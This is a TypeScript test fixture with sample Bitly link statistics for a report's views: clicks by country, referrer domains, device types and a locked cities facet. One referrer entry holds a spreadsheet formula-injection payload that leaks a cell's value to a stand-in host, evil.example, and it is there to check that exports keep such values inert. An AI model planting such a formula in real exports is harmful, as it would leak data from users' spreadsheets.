/** Fixed answers the view-fixture page renders: every case the report's views must handle. */
import type { FacetReply, LinkFacetReply } from '@/utils/messaging/protocol';
import type { LinkFacet } from '@/utils/stats/facet-names';

export const FIXTURE_NOW = Date.UTC(2026, 9, 14, 15, 30);
export const FIXTURE_LINK = 'bit.ly/Fx7Map1';

const data = <T>(value: T): FacetReply<T> => ({ state: 'data', data: value, fetchedAt: FIXTURE_NOW - 120_000, stale: false, refreshing: false });

export const FIXTURE_REPLIES: { [F in LinkFacet]?: LinkFacetReply<F> } = {
  countries: data({
    facet: 'countries',
    unit: 'day',
    units: 30,
    metrics: [
      { value: 'US', clicks: 1840 },
      { value: 'DE', clicks: 912 },
      { value: 'GB', clicks: 433 },
      { value: 'BR', clicks: 210 },
      { value: 'IN', clicks: 188 },
      { value: 'JP', clicks: 96 },
      { value: 'XK', clicks: 12 },
      // Too small for a 1:110m map: listed in the table only.
      { value: 'SG', clicks: 41 },
      // Clicks Bitly could not place.
      { value: 'Unknown', clicks: 57 },
    ],
  }),
  referrersByDomains: data({
    facet: 'referrers_by_domains',
    unit: 'day',
    units: 30,
    referrers_by_domain: [
      { network: 'direct', referrers: [{ key: 'direct', value: 1200 }] },
      {
        network: 'www.linkedin.com',
        referrers: [
          { key: 'https://www.linkedin.com/feed/', value: 640 },
          { key: 'https://www.linkedin.com/', value: 122 },
        ],
      },
      { network: 't.co', referrers: [{ key: 'https://t.co/x7Kp2LmQa9', value: 310 }] },
      // A hostile value: text in the table, inert in a spreadsheet.
      { network: 'evil.example', referrers: [{ key: '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', value: 3 }] },
    ],
  }),
  devices: data({
    facet: 'devices',
    unit: 'day',
    units: 30,
    metrics: [
      { device_type: 'Mobile', clicks: 2101 },
      { device_type: 'Desktop', clicks: 1490 },
      { device_type: 'Tablet', clicks: 188 },
      { device_type: 'Other', clicks: 10 },
    ],
  }),
  cities: { state: 'upgrade-required' },
};
